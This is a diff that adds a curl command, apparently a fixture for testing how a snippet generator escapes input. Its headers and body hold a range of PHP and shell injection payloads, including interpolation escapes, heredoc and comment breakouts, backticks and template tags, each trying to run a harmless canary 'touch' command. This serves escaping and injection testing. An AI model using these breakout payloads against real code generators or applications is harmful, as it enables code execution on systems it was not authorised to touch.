@@ -1,0 +1,36 @@
+curl 'https://api.example.com/run' \
+  --header 'X-Try-1: {${touch('\''snipgen-canary'\'')}}' \
+  --header 'X-Try-2: '\''.touch('\''snipgen-canary'\'').'\''' \
+  --header 'X-Try-3: ".touch("snipgen-canary")."' \
+  --header 'X-Try-4: {$_SERVER[touch("snipgen-canary")]}' \
+  --header 'X-Try-5: $_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}' \
+  --header 'X-Try-6: ?><?php touch('\''snipgen-canary'\''); ?>' \
+  --header 'X-Try-7: */ touch('\''snipgen-canary'\''); /*' \
+  --header 'X-Try-8: // ?><?= touch('\''snipgen-canary'\'') ?>' \
+  --header 'X-Try-9: \'\''.touch('\''snipgen-canary'\'').\'\''' \
+  --header 'X-Try-10: \\'\''.touch('\''snipgen-canary'\'').\\'\''' \
+  --header 'X-Try-11: `touch snipgen-canary`' \
+  --header 'X-Try-12: <%= touch %>' \
+  --header 'X-Try-15: \' \
+  --header 'Content-Type: text/plain' \
+  --data-raw '{${touch('\''snipgen-canary'\'')}}
+'\''.touch('\''snipgen-canary'\'').'\''
+".touch("snipgen-canary")."
+{$_SERVER[touch("snipgen-canary")]}
+$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}
+?><?php touch('\''snipgen-canary'\''); ?>
+*/ touch('\''snipgen-canary'\''); /*
+// ?><?= touch('\''snipgen-canary'\'') ?>
+\'\''.touch('\''snipgen-canary'\'').\'\''
+\\'\''.touch('\''snipgen-canary'\'').\\'\''
+`touch snipgen-canary`
+<%= touch %>
+
+EOT
+.touch('\''snipgen-canary'\'').<<<EOT
+
+
+EOF;
+touch('\''snipgen-canary'\'');
+
+\'
